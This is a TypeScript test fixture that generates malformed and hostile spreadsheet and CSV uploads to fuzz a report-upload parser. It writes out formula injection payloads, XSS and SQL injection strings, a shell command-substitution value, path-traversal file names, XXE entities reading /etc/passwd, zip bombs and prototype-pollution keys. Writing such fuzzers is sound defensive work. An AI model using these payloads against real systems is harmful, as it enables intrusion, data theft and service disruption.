import { deflateRawSync } from 'node:zlib'
import { unzipSync } from 'fflate'
import { hostileSheets } from './hostile-sheets.js'
import { editedWorkbook } from './report-files.js'
import { samplePdf, samplePng } from './sample-files.js'
import { type ZipPart, zip } from './zip.js'

/** A file as someone may upload it in place of a filled-in workbook. */
export interface HostileUpload {
  what: string
  name: string
  content: Buffer
}

/** What hostile files are made from: honest ones of the report, and an address that nobody may ever call. */
export interface Honest {
  workbook: Buffer
  list: Buffer
  canary: string
}

/** Always the same row of numbers below 1 for one seed. */
function numbersFrom(seed: number): () => number {
  let state = seed + 0x6d2b79f5
  return () => {
    state = Math.imul(state ^ (state >>> 15), 1 | state)
    state ^= state + Math.imul(state ^ (state >>> 7), 61 | state)
    return ((state ^ (state >>> 14)) >>> 0) / 2 ** 32
  }
}

type Random = ReturnType<typeof numbersFrom>
const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)]!

const NAMES = [
  'werkmap.xlsx',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\calc.exe',
  'werkmap.xlsx.exe',
  'con.csv',
  `${'a'.repeat(3_000)}.xlsx`,
  'gpj.\u202excod.xlsx',
  '<img src=x onerror=alert(1)>.csv',
  '%00.xlsx',
  '{count, plural',
  '.',
]

/** Texts that do something elsewhere: formulas, markup, templates, paths. */
function texts(canary: string): string[] {
  return [
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    `=WEBSERVICE("${canary}")`,
    `=HYPERLINK("${canary}","klik")`,
    '+1+cmd|x!A1',
    '-2+3+cmd|x!A1',
    '\t=1+1',
    '<script>alert(1)</script>',
    '{{{constructor.constructor("return process")()}}}',
    '{typed, plural, one {#}}',
    "'; DROP TABLE report_uploads; --",
    '$(touch /tmp/samen-canary)',
    '../../etc/passwd',
    '__proto__',
    '\u0000\ud800\uffff',
    '9'.repeat(15_000),
    'ﷺ'.repeat(5_000),
  ]
}

const CELLS = [
  'Verhaal!B2',
  'Geld!C2',
  'Geld!D3',
  'Geld!E2',
  'Middelen en mensen!B6',
  'Indicatoren!D2',
  'Uitleg!B1',
  'Geld!F2',
]

type Make = (random: Random, honest: Honest) => Buffer | Promise<Buffer>

const makers: Record<string, Make> = {
  'a truncated workbook': (random, { workbook }) =>
    workbook.subarray(0, Math.floor(random() * workbook.length)),
  'a truncated list': (random, { list }) => list.subarray(0, Math.floor(random() * list.length)),
  'a workbook with flipped bytes': (random, { workbook }) => {
    const content = Buffer.from(workbook)
    for (let flip = 0; flip < 1 + random() * 20; flip++)
      content[Math.floor(random() * content.length)] = Math.floor(random() * 256)
    return content
  },
  'a workbook with a changed part': (random, { workbook }) =>
    changedPart(random, workbook, (text) => {
      const at = Math.floor(random() * text.length)
      return (
        text.slice(0, at) +
        pick(random, ['<', '>', '"', '&', '\0', '<!--', ']]>', '\ud800']) +
        text.slice(at + 1)
      )
    }),
  'a workbook with hostile texts': (random, { workbook, canary }) =>
    editedWorkbook(workbook, {
      [pick(random, CELLS)]: pick(random, texts(canary)),
      [pick(random, CELLS)]: { formula: pick(random, texts(canary)).replace(/^=/, ''), result: 1 },
    }),
  'a list with hostile texts': (random, { list, canary }) => {
    const lines = list.toString().split('\r\n')
    const at = Math.floor(random() * lines.length)
    lines[at] = lines[at]!.replace(/;[^;]*;/, `;${pick(random, texts(canary)).replaceAll('"', '""')};`)
    return Buffer.from(lines.join('\r\n'))
  },
  'a list with hostile keys': (random, { list }) =>
    Buffer.from(
      list
        .toString()
        .replaceAll(/(lines|indicators)\.[\w-]+/g, () =>
          pick(random, ['__proto__', 'constructor', 'lines.', '$&']),
        ),
    ),
  'entities in a part': (random, { workbook, canary }) =>
    changedPart(
      random,
      workbook,
      (text) =>
        `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "${pick(random, ['file:///etc/passwd', canary])}">]>${text}`,
    ),
  'a part of great depth': (random, { workbook }) =>
    changedPart(random, workbook, (text) => {
      const depth = 1_000 + Math.floor(random() * 200_000)
      return text.replace('</', `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</`)
    }),
  'a part with another path': (random, { workbook }) => {
    const names = ['../../../tmp/samen-canary', '/etc/cron.d/x', 'xl\\..\\x.xml', 'a\0b.xml', 'xl/./x.xml']
    return zip([...partsOf(workbook), { name: pick(random, names), data: 'x' }])
  },
  'a bomb in a workbook': (random, { workbook }) => {
    const data = Buffer.alloc(Math.floor((20 + random() * 60) * 1024 * 1024))
    const lies = random() < 0.5 ? { bytes: 1_000 } : {}
    return zip([
      ...partsOf(workbook),
      { name: 'xl/worksheets/sheet9.xml', data, packed: deflateRawSync(data), ...lies },
    ])
  },
  'macros in a workbook': (_, { workbook }) =>
    zip([...partsOf(workbook), { name: 'xl/vbaProject.bin', data: 'x' }]),
  'two kinds of file at once': (random, { workbook, list }) =>
    pick(random, [
      Buffer.concat([samplePdf(), workbook]),
      Buffer.concat([samplePng(), workbook]),
      Buffer.concat([workbook, Buffer.from('<script>alert(1)</script>')]),
      Buffer.concat([list, workbook]),
      Buffer.concat([Buffer.from('PK\x03\x04'), list]),
      Buffer.concat([Buffer.from('GIF89a'), list]),
    ]),
  'a huge file': (random, { list }) =>
    Buffer.concat([
      list,
      Buffer.alloc(Math.floor(random() * 8 * 1024 * 1024), pick(random, [';', 'x', '"', '\n'])),
    ]),
  rubbish: (random) => Buffer.from(Array.from({ length: 3_000 }, () => Math.floor(random() * 256))),
}

/** So many hostile files, always the same: those that are known first, then of each kind in turn. */
export async function* hostileUploads(count: number, honest: Honest): AsyncGenerator<HostileUpload> {
  const known = hostileSheets()
  const kinds = Object.entries(makers)
  for (let index = 0; index < count; index++) {
    const random = numbersFrom(index)
    const name = index % 3 === 0 ? pick(random, NAMES) : 'werkmap.xlsx'
    if (index % 3 === 1 && (index - 1) / 3 < known.length) {
      const { what, content } = known[Math.floor((index - 1) / 3)]!
      yield { what, name, content }
    } else {
      const [what, make] = kinds[index % kinds.length]!
      yield { what, name, content: await make(random, honest) }
    }
  }
}

function partsOf(workbook: Buffer): ZipPart[] {
  return Object.entries(unzipSync(workbook)).map(([name, data]) => ({ name, data: Buffer.from(data) }))
}

function changedPart(random: Random, workbook: Buffer, change: (text: string) => string): Buffer {
  const parts = partsOf(workbook)
  const part = pick(random, parts)
  return zip(parts.map((one) => (one === part ? { ...one, data: change(one.data.toString()) } : one)))
}
